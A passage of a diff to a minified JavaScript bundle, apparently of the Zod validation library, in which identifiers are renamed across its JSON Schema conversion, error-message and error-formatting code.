-"boolean"),i.every(o=>o===null)&&(n.type="null"),n.enum=i},BE=(t,e,n,s)=>{pt(t,e,n,s,"NaN cannot be represented in JSON \
-Schema")},fE=(t,e,n,s)=>{const r=n,i=t._zod.pattern;if(!i)throw new Error("Pattern not found in template literal");r.type=
-"string",r.pattern=i.source},hE=(t,e,n,s)=>{const r=n;r.type="string",r.format="binary",r.contentEncoding="binary";const{
+"boolean"),i.every(o=>o===null)&&(n.type="null"),n.enum=i},lE=(t,e,n,s)=>{pt(t,e,n,s,"NaN cannot be represented in JSON \
+Schema")},dE=(t,e,n,s)=>{const r=n,i=t._zod.pattern;if(!i)throw new Error("Pattern not found in template literal");r.type=
+"string",r.pattern=i.source},BE=(t,e,n,s)=>{const r=n;r.type="string",r.format="binary",r.contentEncoding="binary";const{
 minimum:i,maximum:o,mime:a}=ut(t);i!==void 0&&(r.minLength=i),o!==void 0&&(r.maxLength=o),a&&(a.length===0?r.not={}:a.length===
-1?r.contentMediaType=a[0]:r.anyOf=a.map(c=>({contentMediaType:c})))},pE=(t,e,n,s)=>{n.type="boolean"},sd=(t,e,n,s)=>{pt(
-t,e,n,s,"Custom types cannot be represented in JSON Schema")},mE=(t,e,n,s)=>{pt(t,e,n,s,"Function types cannot be repres\
-ented in JSON Schema")},rd=(t,e,n,s)=>{pt(t,e,n,s,"Transforms cannot be represented in JSON Schema")},gE=(t,e,n,s)=>{pt(
-t,e,n,s,"Map cannot be represented in JSON Schema")},CE=(t,e,n,s)=>{pt(t,e,n,s,"Set cannot be represented in JSON Schema")},
-id=(t,e,n,s)=>{const r=n,i=t._zod.def,{minimum:o,maximum:a}=ut(t);typeof o=="number"&&(r.minItems=o),typeof a=="number"&&
+1?r.contentMediaType=a[0]:r.anyOf=a.map(c=>({contentMediaType:c})))},fE=(t,e,n,s)=>{n.type="boolean"},Ql=(t,e,n,s)=>{pt(
+t,e,n,s,"Custom types cannot be represented in JSON Schema")},hE=(t,e,n,s)=>{pt(t,e,n,s,"Function types cannot be repres\
+ented in JSON Schema")},ed=(t,e,n,s)=>{pt(t,e,n,s,"Transforms cannot be represented in JSON Schema")},pE=(t,e,n,s)=>{pt(
+t,e,n,s,"Map cannot be represented in JSON Schema")},mE=(t,e,n,s)=>{pt(t,e,n,s,"Set cannot be represented in JSON Schema")},
+td=(t,e,n,s)=>{const r=n,i=t._zod.def,{minimum:o,maximum:a}=ut(t);typeof o=="number"&&(r.minItems=o),typeof a=="number"&&
 (r.maxItems=a),r.type="array",r.items=Qe(i.element,e,{...s,path:[...s.path,"items"]})};function Ns(t){const e=t._zod.def;
-return e.type==="pipe"&&e.in._zod.traits.has("$ZodTransform")?Ns(e.out):e.type==="catch"?Ns(e.innerType):t._zod.optin}const od=(t,e,n,s)=>{
+return e.type==="pipe"&&e.in._zod.traits.has("$ZodTransform")?Ns(e.out):e.type==="catch"?Ns(e.innerType):t._zod.optin}const nd=(t,e,n,s)=>{
 const r=n,i=t._zod.def,o=i.shape;if(Object.getOwnPropertySymbols(o).length&&pt(t,e,r,s,"Symbol keys cannot be represente\
 d in JSON Schema"))return;r.type="object",r.properties={};for(const u in o)mn(r.properties,u,Qe(o[u],e,{...s,path:[...s.
 path,"properties",u]}));const c=[];for(const u of Object.keys(o)){const l=i.shape[u];(e.io==="input"?Ns(l)===void 0:l._zod.
 optout===void 0)&&c.push(u)}c.length>0&&(r.required=c),i.catchall?._zod.def.type==="never"?r.additionalProperties=!1:i.catchall?
 i.catchall&&(r.additionalProperties=Qe(i.catchall,e,{...s,path:[...s.path,"additionalProperties"]})):e.io==="output"&&(r.
-additionalProperties=!1)},ad=(t,e,n,s)=>{const r=t._zod.def,i=r.inclusive===!1,o=r.options.map((a,c)=>Qe(a,e,{...s,path:[
-...s.path,i?"oneOf":"anyOf",c]}));i?n.oneOf=o:n.anyOf=o},cd=(t,e,n,s)=>{const r=t._zod.def,i=Qe(r.left,e,{...s,path:[...s.
+additionalProperties=!1)},sd=(t,e,n,s)=>{const r=t._zod.def,i=r.inclusive===!1,o=r.options.map((a,c)=>Qe(a,e,{...s,path:[
+...s.path,i?"oneOf":"anyOf",c]}));i?n.oneOf=o:n.anyOf=o},rd=(t,e,n,s)=>{const r=t._zod.def,i=Qe(r.left,e,{...s,path:[...s.
 path,"allOf",0]}),o=Qe(r.right,e,{...s,path:[...s.path,"allOf",1]}),a=u=>"allOf"in u&&Object.keys(u).length===1,c=[...a(
-i)?i.allOf:[i],...a(o)?o.allOf:[o]];n.allOf=c,e.intersections.push(c)},ud=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="arr\
+i)?i.allOf:[i],...a(o)?o.allOf:[o]];n.allOf=c,e.intersections.push(c)},id=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="arr\
 ay";const o=e.target==="draft-2020-12"?"prefixItems":"items",a=e.target==="draft-2020-12"||e.target==="openapi-3.0"?"ite\
 ms":"additionalItems",c=i.items.map((m,g)=>Qe(m,e,{...s,path:[...s.path,o,g]})),u=i.rest?Qe(i.rest,e,{...s,path:[...s.path,
 a,...e.target==="openapi-3.0"?[i.items.length]:[]]}):null;let l=i.items.length;for(;l>0;){const m=i.items[l-1];if(!(e.io===
@@ -2626,37 +2628,37 @@ map(C=>Eo(t,C,n));g.some((C,b)=>C!==m[b])&&(e={...e,[h]:g})}const s=Array.isArra
 "string")&&s.some(h=>h==="number"||h==="integer"),i=e.enum??(e.const!==void 0?[e.const]:void 0);if(!r&&!i?.some(h=>typeof h==
 "number"))return e;const{minimum:o,maximum:a,exclusiveMinimum:c,exclusiveMaximum:u,multipleOf:l,format:d,id:B,...f}=e;return f.
 enum?f.enum=f.enum.map(h=>typeof h=="number"?String(h):h):typeof f.const=="number"&&(f.const=String(f.const)),r&&(f.type=
-"string",i||(f.pattern=(s.includes("number")?mo:Ow).source)),f}const ko=new WeakMap;function yE(t){const e=new Map;for(const s of t.
+"string",i||(f.pattern=(s.includes("number")?mo:Dw).source)),f}const ko=new WeakMap;function gE(t){const e=new Map;for(const s of t.
 seen.values())s.def&&!e.has(s.schema)&&e.set(s.schema,s);const n=new Map;for(const s of ko.get(t)??[]){const r=t.seen.get(
 s),i=(r?.def??r?.schema)?.propertyNames;if(!i||i===!0||n.has(i))continue;const o=Eo(e,i,new Set);o!==i&&n.set(i,o)}if(n.
 size)for(const s of t.seen.values())for(const r of[s.schema,s.def]){const i=r&&n.get(r.propertyNames);i&&(r.propertyNames=
-i)}}const ld=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="object";const o=i.keyType,a=ut(o).patterns;if(i.mode==="loose"&&
+i)}}const od=(t,e,n,s)=>{const r=n,i=t._zod.def;r.type="object";const o=i.keyType,a=ut(o).patterns;if(i.mode==="loose"&&
 a&&a.size>0){const l=Qe(i.valueType,e,{...s,path:[...s.path,"patternProperties","*"]});r.patternProperties={};for(const d of a)
-mn(r.patternProperties,Kl(d).source,l)}else{if(e.target==="draft-07"||e.target==="draft-2020-12"){r.propertyNames=Qe(i.keyType,
-e,{...s,path:[...s.path,"propertyNames"]});let l=ko.get(e);l||(l=[],ko.set(e,l),e.deferred.push(()=>yE(e))),l.push(t)}r.
+mn(r.patternProperties,zl(d).source,l)}else{if(e.target==="draft-07"||e.target==="draft-2020-12"){r.propertyNames=Qe(i.keyType,
+e,{...s,path:[...s.path,"propertyNames"]});let l=ko.get(e);l||(l=[],ko.set(e,l),e.deferred.push(()=>gE(e))),l.push(t)}r.
 additionalProperties=Qe(i.valueType,e,{...s,path:[...s.path,"additionalProperties"]})}const c=o._zod.values,u=e.io==="in\
 put"&&Ns(i.valueType)!==void 0;if(c&&!i.partial&&!u){const l=[...c].filter(d=>typeof d=="string"||typeof d=="number");l.
-length>0&&(r.required=l.map(String))}},dd=(t,e,n,s)=>{const r=t._zod.def,i=Qe(r.innerType,e,s),o=e.seen.get(t);e.target===
-"openapi-3.0"?(o.ref=r.innerType,n.nullable=!0):n.anyOf=[i,{type:"null"}]},Bd=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,
-e,s);const i=e.seen.get(t);i.ref=r.innerType},vo=Symbol();function fd(t,e,n,s,r){let i=!1;const o=JSON.stringify(t,(a,c)=>typeof c!=
-"bigint"?c:(i=!0,null));return i?(pt(e,n,s,r,"BigInt defaults cannot be represented in JSON Schema"),vo):JSON.parse(o)}const hd=(t,e,n,s)=>{
-const r=t._zod.def;Qe(r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType;const o=fd(r.defaultValue,t,e,n,s);o!==vo&&
-(n.default=o)},pd=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,e,s);const i=e.seen.get(t);if(i.ref=r.innerType,e.io!=="\
-input")return;const o=fd(r.defaultValue,t,e,n,s);o!==vo&&(n._prefault=o)},md=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,
+length>0&&(r.required=l.map(String))}},ad=(t,e,n,s)=>{const r=t._zod.def,i=Qe(r.innerType,e,s),o=e.seen.get(t);e.target===
+"openapi-3.0"?(o.ref=r.innerType,n.nullable=!0):n.anyOf=[i,{type:"null"}]},cd=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,
+e,s);const i=e.seen.get(t);i.ref=r.innerType},vo=Symbol();function ud(t,e,n,s,r){let i=!1;const o=JSON.stringify(t,(a,c)=>typeof c!=
+"bigint"?c:(i=!0,null));return i?(pt(e,n,s,r,"BigInt defaults cannot be represented in JSON Schema"),vo):JSON.parse(o)}const ld=(t,e,n,s)=>{
+const r=t._zod.def;Qe(r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType;const o=ud(r.defaultValue,t,e,n,s);o!==vo&&
+(n.default=o)},dd=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,e,s);const i=e.seen.get(t);if(i.ref=r.innerType,e.io!=="\
+input")return;const o=ud(r.defaultValue,t,e,n,s);o!==vo&&(n._prefault=o)},Bd=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,
 e,s);const i=e.seen.get(t);i.ref=r.innerType;let o;try{o=r.catchValue(void 0)}catch{pt(t,e,n,s,"Dynamic catch values are\
- not supported in JSON Schema");return}n.default=o},gd=(t,e,n,s)=>{const r=t._zod.def,i=r.in._zod.traits.has("$ZodTransf\
-orm"),o=e.io==="input"?i?r.out:r.in:r.out;Qe(o,e,s);const a=e.seen.get(t);a.ref=o},Cd=(t,e,n,s)=>{const r=t._zod.def;Qe(
-r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType,n.readOnly=!0},wE=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,
+ not supported in JSON Schema");return}n.default=o},fd=(t,e,n,s)=>{const r=t._zod.def,i=r.in._zod.traits.has("$ZodTransf\
+orm"),o=e.io==="input"?i?r.out:r.in:r.out;Qe(o,e,s);const a=e.seen.get(t);a.ref=o},hd=(t,e,n,s)=>{const r=t._zod.def;Qe(
+r.innerType,e,s);const i=e.seen.get(t);i.ref=r.innerType,n.readOnly=!0},CE=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,
 e,s);const i=e.seen.get(t);i.ref=r.innerType},Do=(t,e,n,s)=>{const r=t._zod.def;Qe(r.innerType,e,s);const i=e.seen.get(t);
-i.ref=r.innerType},bE=(t,e,n,s)=>{const r=t._zod.innerType;Qe(r,e,s);const i=e.seen.get(t);i.ref=r},yd={string:Wl,number:ql,
-boolean:Vl,bigint:Yl,symbol:aE,null:cE,undefined:uE,void:lE,never:Xl,any:dE,unknown:Ql,date:ed,enum:td,literal:nd,nan:BE,
-template_literal:fE,file:hE,success:pE,custom:sd,function:mE,transform:rd,map:gE,set:CE,array:id,object:od,union:ad,intersection:cd,
-tuple:ud,record:ld,nullable:dd,nonoptional:Bd,default:hd,prefault:pd,catch:md,pipe:gd,readonly:Cd,promise:wE,optional:Do,
-lazy:bE};function jG(t,e){if("_idmap"in t){const s=t,r=initializeContext({...e,processors:yd}),i={};for(const c of s._idmap.
+i.ref=r.innerType},yE=(t,e,n,s)=>{const r=t._zod.innerType;Qe(r,e,s);const i=e.seen.get(t);i.ref=r},pd={string:Ul,number:Jl,
+boolean:Zl,bigint:Kl,symbol:iE,null:oE,undefined:aE,void:cE,never:ql,any:uE,unknown:Wl,date:Vl,enum:Yl,literal:Xl,nan:lE,
+template_literal:dE,file:BE,success:fE,custom:Ql,function:hE,transform:ed,map:pE,set:mE,array:td,object:nd,union:sd,intersection:rd,
+tuple:id,record:od,nullable:ad,nonoptional:cd,default:ld,prefault:dd,catch:Bd,pipe:fd,readonly:hd,promise:CE,optional:Do,
+lazy:yE};function jG(t,e){if("_idmap"in t){const s=t,r=initializeContext({...e,processors:pd}),i={};for(const c of s._idmap.
 entries()){const[u,l]=c;processSchema(l,r)}const o={},a={registry:s,uri:e?.uri,defs:i};r.external=a;for(const c of s._idmap.
 entries()){const[u,l]=c;extractDefs(r,l),assignProp(o,u,finalize(r,l))}if(Object.keys(i).length>0){const c=r.target==="d\
-raft-2020-12"?"$defs":"definitions";o.__shared={[c]:i}}return{schemas:o}}const n=initializeContext({...e,processors:yd});
-return processSchema(t,n),extractDefs(n,t),finalize(n,t)}const _E=()=>{const t={string:{unit:"characters",verb:"to have"},
+raft-2020-12"?"$defs":"definitions";o.__shared={[c]:i}}return{schemas:o}}const n=initializeContext({...e,processors:pd});
+return processSchema(t,n),extractDefs(n,t),finalize(n,t)}const wE=()=>{const t={string:{unit:"characters",verb:"to have"},
 file:{unit:"bytes",verb:"to have"},array:{unit:"items",verb:"to have"},set:{unit:"items",verb:"to have"},map:{unit:"entr\
 ies",verb:"to have"}};function e(i){return t[i]??null}const n={regex:"input",email:"email address",url:"URL",emoji:"emoj\
 i",uuid:"UUID",uuidv4:"UUIDv4",uuidv6:"UUIDv6",nanoid:"nanoid",guid:"GUID",cuid:"cuid",cuid2:"cuid2",ulid:"ULID",xid:"XI\
@@ -2664,9 +2666,9 @@ D",ksuid:"KSUID",datetime:"ISO datetime",date:"ISO date",time:"ISO time",duratio
 IPv6 address",mac:"MAC address",cidrv4:"IPv4 range",cidrv6:"IPv6 range",base64:"base64-encoded string",base64url:"base64\
 url-encoded string",json_string:"JSON string",e164:"E.164 number",currency_code:"currency code",credit_card:"credit card\
  number",iban:"IBAN",jwt:"JWT",template_literal:"input"},s={nan:"NaN"};function r(i,o){return i==="number"&&typeof o=="n\
-umber"&&!Number.isFinite(o)?String(o):s[i]??i}return i=>{switch(i.code){case"invalid_type":{const o=r(i.expected),a=jy(i.
+umber"&&!Number.isFinite(o)?String(o):s[i]??i}return i=>{switch(i.code){case"invalid_type":{const o=r(i.expected),a=Ly(i.
 input),c=r(a,i.input);return`Invalid input: expected ${o}, received ${c}`}case"invalid_value":return i.values.length===1?
-`Invalid input: expected ${Mu(i.values[0])}`:`Invalid option: expected one of ${$u(i.values,"|")}`;case"too_big":{const o=i.
+`Invalid input: expected ${Fu(i.values[0])}`:`Invalid option: expected one of ${Au(i.values,"|")}`;case"too_big":{const o=i.
 exact?"exactly ":i.inclusive?"<=":"<",a=e(i.origin);return a?`Too big: expected ${i.origin??"value"} to have ${o}${i.maximum.
 toString()} ${a.unit??"elements"}`:`Too big: expected ${i.origin??"value"} to be ${o}${i.maximum.toString()}`}case"too_s\
 mall":{const o=i.exact?"exactly ":i.inclusive?">=":">",a=e(i.origin);return a?`Too small: expected ${i.origin} to have ${o}${i.
@@ -2675,20 +2677,20 @@ const o=i;return o.format==="starts_with"?`Invalid string: must start with "${o.
 d string: must end with "${o.suffix}"`:o.format==="includes"?`Invalid string: must include "${o.includes}"`:o.format==="\
 regex"?`Invalid string: must match pattern ${o.pattern}`:`Invalid ${n[o.format]??i.format}`}case"not_multiple_of":return`\
 Invalid number: must be a multiple of ${i.divisor}`;case"unrecognized_keys":return`Unrecognized key${i.keys.length>1?"s":
-""}: ${$u(i.keys,", ")}`;case"invalid_key":return`Invalid key in ${i.origin}`;case"invalid_union":return i.options&&Array.
+""}: ${Au(i.keys,", ")}`;case"invalid_key":return`Invalid key in ${i.origin}`;case"invalid_union":return i.options&&Array.
 isArray(i.options)&&i.options.length>0?`Invalid discriminator value. Expected ${i.options.map(a=>`'${a}'`).join(" | ")}`:
 i.inclusive===!1?"Invalid input: more than one option matched":"Invalid input";case"invalid_element":return`Invalid valu\
-e in ${i.origin}`;default:return"Invalid input"}}};function EE(){return{localeError:_E()}}function kE(){const t=this._zod;
-return t.message??(t.message=JSON.stringify(t.def,so,2)),t.message}function vE(t){this._zod.message=t}const DE={get:kE,set:vE,
-enumerable:!0,configurable:!0},xo={value:void 0,enumerable:!1},wd=new WeakSet([Object.prototype,Error.prototype]),bd=(t,e)=>{
-t.name="$ZodError",xo.value=e,Object.defineProperty(t,"issues",xo),xo.value=void 0,Object.defineProperty(t,"message",DE);
-const n=Object.getPrototypeOf(t);wd.has(n)||(wd.add(n),Object.defineProperty(n,"toString",{configurable:!0,enumerable:!1,
+e in ${i.origin}`;default:return"Invalid input"}}};function bE(){return{localeError:wE()}}function _E(){const t=this._zod;
+return t.message??(t.message=JSON.stringify(t.def,so,2)),t.message}function EE(t){this._zod.message=t}const kE={get:_E,set:EE,
+enumerable:!0,configurable:!0},xo={value:void 0,enumerable:!1},md=new WeakSet([Object.prototype,Error.prototype]),gd=(t,e)=>{
+t.name="$ZodError",xo.value=e,Object.defineProperty(t,"issues",xo),xo.value=void 0,Object.defineProperty(t,"message",kE);
+const n=Object.getPrototypeOf(t);md.has(n)||(md.add(n),Object.defineProperty(n,"toString",{configurable:!0,enumerable:!1,
 get(){const s=()=>this.message;return Object.defineProperty(this,"toString",{value:s,configurable:!0,writable:!0}),s},set(s){
-Object.defineProperty(this,"toString",{value:s,configurable:!0,writable:!0})}}))},xE=N("$ZodError",bd),Nt=N("$ZodError",
-bd,void 0,{Parent:Error});function OE(t,e,n){return Object.prototype.hasOwnProperty.call(t,e)||(e==="__proto__"?Object.defineProperty(
-t,e,{value:n(),writable:!0,enumerable:!0,configurable:!0}):t[e]=n()),t[e]}function AE(t,e=n=>n.message){const n={},s=[];
-for(const r of t.issues)r.path.length>0?OE(n,r.path[0],()=>[]).push(e(r)):s.push(e(r));return{formErrors:s,fieldErrors:n}}
-function SE(t,e=n=>n.message){const n={_errors:[]},s=(r,i=[])=>{for(const o of r.issues)if(o.code==="invalid_union"&&o.errors.
+Object.defineProperty(this,"toString",{value:s,configurable:!0,writable:!0})}}))},vE=N("$ZodError",gd),Nt=N("$ZodError",
+gd,void 0,{Parent:Error});function DE(t,e,n){return Object.prototype.hasOwnProperty.call(t,e)||(e==="__proto__"?Object.defineProperty(
+t,e,{value:n(),writable:!0,enumerable:!0,configurable:!0}):t[e]=n()),t[e]}function xE(t,e=n=>n.message){const n={},s=[];
+for(const r of t.issues)r.path.length>0?DE(n,r.path[0],()=>[]).push(e(r)):s.push(e(r));return{formErrors:s,fieldErrors:n}}
+function OE(t,e=n=>n.message){const n={_errors:[]},s=(r,i=[])=>{for(const o of r.issues)if(o.code==="invalid_union"&&o.errors.
 length)o.errors.map(a=>s({issues:a},[...i,...o.path]));else if(o.code==="invalid_key")s({issues:o.issues},[...i,...o.path]);else if(o.
 code==="invalid_element")s({issues:o.issues},[...i,...o.path]);else{const a=[...i,...o.path];if(a.length===0)n._errors.push(
 e(o));else{let c=n,u=0;for(;u<a.length;){const l=a[u],d=u===a.length-1;if(l==="_errors"){d&&c._errors.push(e(o)),u++;continue}
@@ -2699,99 +2701,99 @@ code==="invalid_key")s({issues:a.issues},[...i,...a.path]);else if(a.code==="inv
 ...a.path]);else{const c=[...i,...a.path];if(c.length===0){n.errors.push(e(a));continue}let u=n,l=0;for(;l<c.length;){const d=c[l],
 B=l===c.length-1;typeof d=="string"?(u.properties??(u.properties={}),Object.prototype.hasOwnProperty.call(u.properties,d)||
 Object.defineProperty(u.properties,d,{value:{errors:[]},enumerable:!0,writable:!0,configurable:!0}),u=u.properties[d]):(u.
-items??(u.items=[]),(o=u.items)[d]??(o[d]={errors:[]}),u=u.items[d]),B&&u.errors.push(e(a)),l++}}};return s(t),n}function TE(t){
+items??(u.items=[]),(o=u.items)[d]??(o[d]={errors:[]}),u=u.items[d]),B&&u.errors.push(e(a)),l++}}};return s(t),n}function AE(t){
 const e=[],n=t.map(s=>typeof s=="object"?s.key:s);for(const s of n)typeof s=="number"?e.push(`[${s}]`):typeof s=="symbol"?
 e.push(`[${JSON.stringify(String(s))}]`):/[^\w$]/.test(s)?e.push(`[${JSON.stringify(s)}]`):(e.length&&e.push("."),e.push(
 s));return e.join("")}function GG(t){const e=[],n=[...t.issues].sort((s,r)=>(s.path??[]).length-(r.path??[]).length);for(const s of n)
-e.push(`\u2716 ${s.message}`),s.path?.length&&e.push(`  \u2192 at ${TE(s.path)}`);return e.join(`
+e.push(`\u2716 ${s.message}`),s.path?.length&&e.push(`  \u2192 at ${AE(s.path)}`);return e.join(`
 `)}function xr(t,e){return{callee:e?.callee??t,Err:e?.Err}}const Or=t=>{const e=(n,s,r,i)=>{const o=r?{...r,async:!1}:{async:!1},
 a=n._zod.run({value:s,issues:[]},o);if(a instanceof Promise)throw new Rn;if(a.issues.length){const c=new(i?.Err??t)(a.issues.
-map(u=>Cn(u,o,Kt())));throw Pu(c,i?.callee??e),c}return a.value};return e},HG=Or(Nt),Ar=t=>{const e=async(n,s,r,i)=>{const o=r?
+map(u=>Cn(u,o,qt())));throw Ru(c,i?.callee??e),c}return a.value};return e},HG=Or(Nt),Ar=t=>{const e=async(n,s,r,i)=>{const o=r?
 {...r,async:!0}:{async:!0};let a=n._zod.run({value:s,issues:[]},o);if(a instanceof Promise&&(a=await a),a.issues.length){
-const c=new(i?.Err??t)(a.issues.map(u=>Cn(u,o,Kt())));throw Pu(c,i?.callee??e),c}return a.value};return e},zG=Ar(Nt),Sr=t=>(e,n,s)=>{
+const c=new(i?.Err??t)(a.issues.map(u=>Cn(u,o,qt())));throw Ru(c,i?.callee??e),c}return a.value};return e},zG=Ar(Nt),Sr=t=>(e,n,s)=>{
 const r=s?{...s,async:!1}:{async:!1},i=e._zod.run({value:n,issues:[]},r);if(i instanceof Promise)throw new Rn;return i.issues.
-length?_d(t,i.issues,r):{success:!0,data:i.value}},UG=Sr(Nt);function _d(t,e,n){let s;return{success:!1,get error(){return s||
-(s=new t(e.map(r=>Cn(r,n,Kt()))),e=void 0,n=void 0),s},set error(r){s=r,e=void 0,n=void 0}}}const Tr=t=>async(e,n,s)=>{const r=s?
+length?Cd(t,i.issues,r):{success:!0,data:i.value}},UG=Sr(Nt);function Cd(t,e,n){let s;return{success:!1,get error(){return s||
+(s=new t(e.map(r=>Cn(r,n,qt()))),e=void 0,n=void 0),s},set error(r){s=r,e=void 0,n=void 0}}}const Tr=t=>async(e,n,s)=>{const r=s?
 {...s,async:!0}:{async:!0};let i=e._zod.run({value:n,issues:[]},r);return i instanceof Promise&&(i=await i),i.issues.length?
-_d(t,i.issues,r):{success:!0,data:i.value}},JG=Tr(Nt),IE=Symbol.for("zod.compile.invalid"),$E=Symbol.for("zod.compile.fa\
-llback"),RE=((t,e,n)=>{const s=t._zod.bag.validator;if(s!==void 0){if(s(e)!==IE)return!0;if(s.definite===!0&&n===void 0)
-return!1}return NE(t,e,n)});function NE(t,e,n){const s=n?{...n,async:!1,abortEarly:!0}:{async:!1,abortEarly:!0},r=t._zod.
-bag.fallbackRun;let i;if(r?(s[$E]=!0,i=r({value:e,issues:[]},s)):i=t._zod.run({value:e,issues:[]},s),i instanceof Promise)
-throw new Rn;return i.issues.length===0}const FE=async(t,e,n)=>{const s=n?{...n,async:!0,abortEarly:!0}:{async:!0,abortEarly:!0};
-let r=t._zod.run({value:e,issues:[]},s);return r instanceof Promise&&(r=await r),r.issues.length===0},Ed=t=>{const e=Or(
-t),n=(s,r,i,o)=>{const a=i?{...i,direction:"backward"}:{direction:"backward"};return e(s,r,a,xr(n,o))};return n},ZG=Ed(Nt),
-kd=t=>{const e=Or(t),n=(s,r,i,o)=>e(s,r,i,xr(n,o));return n},KG=kd(Nt),vd=t=>{const e=Ar(t),n=async(s,r,i,o)=>{const a=i?
-{...i,direction:"backward"}:{direction:"backward"};return await e(s,r,a,xr(n,o))};return n},WG=vd(Nt),Dd=t=>{const e=Ar(
-t),n=async(s,r,i,o)=>await e(s,r,i,xr(n,o));return n},qG=Dd(Nt),xd=t=>(e,n,s)=>{const r=s?{...s,direction:"backward"}:{direction:"\
-backward"};return Sr(t)(e,n,r)},VG=xd(Nt),Od=t=>(e,n,s)=>Sr(t)(e,n,s),YG=Od(Nt),Ad=t=>async(e,n,s)=>{const r=s?{...s,direction:"\
-backward"}:{direction:"backward"};return Tr(t)(e,n,r)},XG=Ad(Nt),Sd=t=>async(e,n,s)=>Tr(t)(e,n,s),QG=Sd(Nt),Td=new WeakSet(
+Cd(t,i.issues,r):{success:!0,data:i.value}},JG=Tr(Nt),SE=Symbol.for("zod.compile.invalid"),TE=Symbol.for("zod.compile.fa\
+llback"),IE=((t,e,n)=>{const s=t._zod.bag.validator;if(s!==void 0){if(s(e)!==SE)return!0;if(s.definite===!0&&n===void 0)
+return!1}return $E(t,e,n)});function $E(t,e,n){const s=n?{...n,async:!1,abortEarly:!0}:{async:!1,abortEarly:!0},r=t._zod.
+bag.fallbackRun;let i;if(r?(s[TE]=!0,i=r({value:e,issues:[]},s)):i=t._zod.run({value:e,issues:[]},s),i instanceof Promise)
+throw new Rn;return i.issues.length===0}const RE=async(t,e,n)=>{const s=n?{...n,async:!0,abortEarly:!0}:{async:!0,abortEarly:!0};
+let r=t._zod.run({value:e,issues:[]},s);return r instanceof Promise&&(r=await r),r.issues.length===0},yd=t=>{const e=Or(
+t),n=(s,r,i,o)=>{const a=i?{...i,direction:"backward"}:{direction:"backward"};return e(s,r,a,xr(n,o))};return n},ZG=yd(Nt),
+wd=t=>{const e=Or(t),n=(s,r,i,o)=>e(s,r,i,xr(n,o));return n},KG=wd(Nt),bd=t=>{const e=Ar(t),n=async(s,r,i,o)=>{const a=i?
+{...i,direction:"backward"}:{direction:"backward"};return await e(s,r,a,xr(n,o))};return n},qG=bd(Nt),_d=t=>{const e=Ar(
+t),n=async(s,r,i,o)=>await e(s,r,i,xr(n,o));return n},WG=_d(Nt),Ed=t=>(e,n,s)=>{const r=s?{...s,direction:"backward"}:{direction:"\
+backward"};return Sr(t)(e,n,r)},VG=Ed(Nt),kd=t=>(e,n,s)=>Sr(t)(e,n,s),YG=kd(Nt),vd=t=>async(e,n,s)=>{const r=s?{...s,direction:"\
+backward"}:{direction:"backward"};return Tr(t)(e,n,r)},XG=vd(Nt),Dd=t=>async(e,n,s)=>Tr(t)(e,n,s),QG=Dd(Nt),xd=new WeakSet(
 [Object.prototype,Error.prototype]);function Ir(t,e,n){Object.defineProperty(t,e,{configurable:!0,enumerable:!1,get(){const s=n(
 this);return Object.defineProperty(this,e,{value:s,configurable:!0,writable:!0}),s},set(s){Object.defineProperty(this,e,
-{value:s,configurable:!0,writable:!0})}})}const LE=(t,e)=>{xE.init(t,e),t.name="ZodError";const n=Object.getPrototypeOf(
-t);Td.has(n)||(Td.add(n),Ir(n,"format",s=>r=>SE(s,r)),Ir(n,"flatten",s=>r=>AE(s,r)),Ir(n,"addIssue",s=>r=>{s.issues.push(
+{value:s,configurable:!0,writable:!0})}})}const NE=(t,e)=>{vE.init(t,e),t.name="ZodError";const n=Object.getPrototypeOf(
+t);xd.has(n)||(xd.add(n),Ir(n,"format",s=>r=>OE(s,r)),Ir(n,"flatten",s=>r=>xE(s,r)),Ir(n,"addIssue",s=>r=>{s.issues.push(
 r),s.message=JSON.stringify(s.issues,so,2)}),Ir(n,"addIssues",s=>r=>{s.issues.push(...r),s.message=JSON.stringify(s.issues,
 so,2)}),Object.defineProperty(n,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},eH=null,
-Ft=N("ZodError",LE,void 0,{Parent:Error}),PE=Or(Ft),jE=Ar(Ft),ME=Sr(Ft),GE=Tr(Ft),HE=Ed(Ft),zE=kd(Ft),UE=vd(Ft),JE=Dd(Ft),
-ZE=xd(Ft),KE=Od(Ft),WE=Ad(Ft),qE=Sd(Ft);function VE(){Rt.localeError||Kt(EE())}function Fs(){Rt.memoizer||Kt({memoizer:ew()})}
-const Ke=N("ZodType",(t,e)=>(VE(),Ze.init(t,e),t.def=e,t.type=e.type,t),{check(...t){const e=this.def;return this.clone(
+Ft=N("ZodError",NE,void 0,{Parent:Error}),FE=Or(Ft),LE=Ar(Ft),PE=Sr(Ft),jE=Tr(Ft),ME=yd(Ft),GE=wd(Ft),HE=bd(Ft),zE=_d(Ft),
+UE=Ed(Ft),JE=kd(Ft),ZE=vd(Ft),KE=Dd(Ft);function qE(){Rt.localeError||qt(bE())}function Fs(){Rt.memoizer||qt({memoizer:Xy()})}
+const Ke=N("ZodType",(t,e)=>(qE(),Ze.init(t,e),t.def=e,t.type=e.type,t),{check(...t){const e=this.def;return this.clone(
 kt(e,{checks:[...e.checks??[],...t.map(n=>typeof n=="function"?{_zod:{check:n,def:{check:"custom"},onattach:[]}}:n)]}),{
 parent:!0})},with(...t){return this.check(...t)},clone(t,e){return gn(this,t,e)},brand(){return this},register(t,e){return t.
-add(this,e),this},refine(t,e){return this.check(Zk(t,e))},superRefine(t,e){return this.check(Kk(t,e))},overwrite(t){return this.
-check(as(t))},optional(){return Io(this)},exactOptional(){return Dk(this)},nullable(){return $o(this)},nullish(){return Io(
-$o(this))},nonoptional(t){return Ik(this,t)},array(){return Ae(this)},or(t){return nB([this,t])},and(t){return Ck(this,t)},
-transform(t){return oB(this,sB(t))},default(t){return Ak(this,t)},prefault(t){return Tk(this,t)},catch(t){return Nk(this,
